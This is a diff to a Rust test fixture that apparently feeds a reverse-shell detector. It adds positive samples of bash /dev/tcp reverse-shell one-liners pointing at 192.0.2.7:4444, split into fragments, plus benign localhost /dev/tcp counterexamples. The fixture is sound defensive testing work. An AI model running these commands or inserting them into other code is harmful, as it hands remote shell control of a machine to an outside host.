@@ -512,8 +512,22 @@ fn pack_samples() -> Vec<(&'static str, Samples, Samples)> {
         ),
         (
             "reverse_shell_bash_device",
-            vec![text(&["bash -i >& /dev", "/tcp/192.0.2.7/4444 0>&1"])],
-            vec![b"(echo > /dev/tcp/localhost/8080) && echo open; bash -i".to_vec()],
+            vec![
+                text(&["bash -i >& /dev", "/tcp/192.0.2.7/4444 0>&1"]),
+                text(&["exec 196<>/dev", "/tcp/192.0.2.7/4444; sh <&196 >&196 2>&196"]),
+                text(&[
+                    "exec 5<>/dev",
+                    "/tcp/192.0.2.7/4444;cat <&5 | while read line; do $line 2>&5 >&5; done",
+                ]),
+            ],
+            vec![
+                b"(echo > /dev/tcp/localhost/8080) && echo open; bash -i".to_vec(),
+                b"exec 3<>/dev/tcp/localhost/9000 && echo -e 'GET /health HTTP/1.1' >&3 \
+                  && cat <&3 | grep -q 200"
+                    .to_vec(),
+                b"exec 3<>/dev/tcp/localhost/9000; while read line; do echo $line; done <&3"
+                    .to_vec(),
+            ],
         ),
         (
             "reverse_shell_netcat",
